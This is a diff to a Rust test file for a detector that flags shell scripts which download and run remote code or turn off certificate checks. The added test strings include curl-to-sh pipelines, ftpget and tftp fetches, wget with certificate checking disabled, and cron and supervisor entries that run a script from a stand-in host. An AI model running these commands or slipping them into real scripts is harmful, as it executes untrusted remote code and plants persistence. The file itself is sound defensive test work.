@@ -24,6 +24,12 @@ fn an_address_comes_by_any_way_that_sets_a_variable() {
         "get() { curl -s $1 -o $2; }; retry() { \"$@\"; }; retry get http://x.example.com/i.sh /i.sh; sh /i.sh",
         "rsync -a rsync://x.example.com/a/ /a/; exec /a/run",
         "eval \"$(host -t TXT x.example.com)\"",
+        "printf -v U 'http://%s/i.sh' x.example.com; curl -s $U | sh",
+        "curl -s \"$(printf 'http://%s/i.sh' x.example.com)\" | sh",
+        "ftpget x.example.com i.sh i.sh; sh i.sh",
+        "tftp -g -r i.sh x.example.com; sh i.sh",
+        "exec > /i.sh; curl -s http://x.example.com/i.sh; sh /i.sh",
+        "curl -s http://x.example.com/i.sh | su app -c sh",
         "mc alias set m http://x.example.com a b; mc cp m/b/i.sh /i.sh; sh /i.sh",
     ] {
         assert!(executes(script), "{script}");
@@ -37,6 +43,8 @@ fn an_address_comes_by_any_way_that_sets_a_variable() {
         "retry() { \"$@\"; }; retry curl -sf http://x.example.com/health; exec app",
         "set -- --url http://x.example.com; exec app \"$@\"",
         "export HTTPS_PROXY=http://p.example.com; pip install --proxy $HTTPS_PROXY app",
+        "exec > /var/log/init.log 2>&1; curl -s http://x.example.com/health; exec app",
+        "curl -s http://x.example.com/health | su app -c 'tee /health'; exec app",
         "curl -s http://x.example.com/p.json | kubectl get -f -",
     ] {
         assert!(!executes(script), "{script}");
@@ -52,6 +60,8 @@ fn a_check_is_off_by_any_way_that_sets_an_option() {
         "alias curl='curl -k'; curl -s https://x.example.com/i.sh | sh",
         "O='-fsSL -k'; curl $O https://x.example.com/i.sh | sh",
         "C='curl -sk'; $C https://x.example.com/i.sh | sh",
+        "W='wget --no-check-certificate -qO-'; $W https://x.example.com/i.sh | sh",
+        "echo insecure > /c; curl -sK /c https://x.example.com/i.sh | sh",
         "aws s3 cp --no-verify-ssl s3://b/i.sh /i.sh; sh /i.sh",
         "export RCLONE_NO_CHECK_CERTIFICATE=true; rclone copy r:b/i.sh /; sh /i.sh",
         "echo 'deb [trusted=yes] http://x.example.com ./' > /etc/apt/sources.list; apt-get install -y app",
@@ -81,6 +91,7 @@ fn a_script_that_is_written_out_counts_where_it_is_started() {
         "cat > /r.sh <<'EOF'\nwget http://x.example.com/a -O /a\nchmod +x /a\nEOF\nchmod +x /r.sh; exec /r.sh",
         "echo '0 * * * * root curl -s http://x.example.com/i.sh | sh' > /etc/cron.d/a; cron -f",
         "echo '0 * * * * curl -s http://x.example.com/i.sh | sh' | crontab -; crond -f",
+        "cat > /etc/supervisor/conf.d/a.conf <<EOF\n[program:a]\ncommand=sh -c \"curl -s http://x.example.com/i.sh | sh\"\nEOF\nexec supervisord",
         "sh -c \"echo 'curl -s http://x.example.com/i.sh | sh' | sh\"",
     ] {
         assert!(executes(script), "{script}");
